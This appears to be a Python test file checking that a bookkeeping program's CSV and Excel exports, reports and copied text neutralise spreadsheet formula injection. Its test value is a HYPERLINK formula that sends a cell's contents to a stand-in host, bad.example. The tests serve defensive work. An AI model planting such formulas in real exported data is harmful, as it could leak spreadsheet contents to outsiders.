"""Every file that a spreadsheet may open is written by a way that makes formulas harmless."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

from openpyxl import load_workbook

from db.engine import Book
from db.schema import Client
from desktop.services.changes import change
from desktop.services.report_files import report_csv
from desktop.services.reports import report
from desktop.services.table_files import write_table
from desktop.ui.columns import Column, copied_text
from tests.books import new_book
from tests.issued import add_client, add_invoice

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("http://bad.example/"&A1,"Open")'
# Which parts write rows for spreadsheets. Whoever adds one makes its texts harmless, and says so here.
WRITERS = {
    "desktop/services/table_files.py",
    "desktop/services/report_files.py",
    # The names of the program's own columns, and text that only the program itself reads again.
    "desktop/importing/templates.py",
    "desktop/services/imports/pasting.py",
}


def test_nobody_else_writes_tables() -> None:
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "desktop").rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "import Workbook" in text
    }
    assert found == WRITERS


def test_headings_and_texts_are_harmless_and_figures_stay_figures(tmp_path: Path) -> None:
    row: list[str | Decimal | date | bool | None] = [FORMULA, Decimal("-3.5"), date(2026, 5, 1)]
    for ending in (".csv", ".xlsx"):
        write_table(tmp_path / f"t{ending}", "=1+1", ["@Name", "Amount", "Day"], [row])
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["'@Name", "Amount", "Day"], [f"'{FORMULA}", "-3.5", "2026-05-01"]]
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert [cell.data_type for cell in sheet[1]] == ["s", "s", "s"]
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "d"]
    with ZipFile(tmp_path / "t.xlsx") as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def _owing(folder: Path) -> Book:
    book = new_book(folder)
    client = add_client(book, "ACME")
    with change(book, "test", "Name") as made:
        made.update(Client, client, name=FORMULA)
    add_invoice(book, client, date(2026, 3, 1), (10_000, 19))
    return book


def test_a_client_s_name_runs_in_no_report(tmp_path: Path) -> None:
    with _owing(tmp_path) as book:
        for name, code in (("aging", None), ("journal", None), ("statement", "ACME")):
            made = report(book, name, as_of=date(2026, 5, 1), since=date(2026, 1, 1), client_code=code)
            rows = list(csv.reader(report_csv(made).splitlines()))
            assert len(rows) > 1, name
            assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))], name


def test_what_is_copied_into_a_spreadsheet_is_harmless_too() -> None:
    column = Column("name", "Name")
    assert copied_text(column, {"name": FORMULA}) == f"'{FORMULA}"
    assert copied_text(column, {"name": "+49 40 1234"}) == "+49 40 1234"
    money = Column("amount", "Amount", kind="money")
    assert copied_text(money, {"amount": -1250, "currency": "EUR"}) == "-12.50"
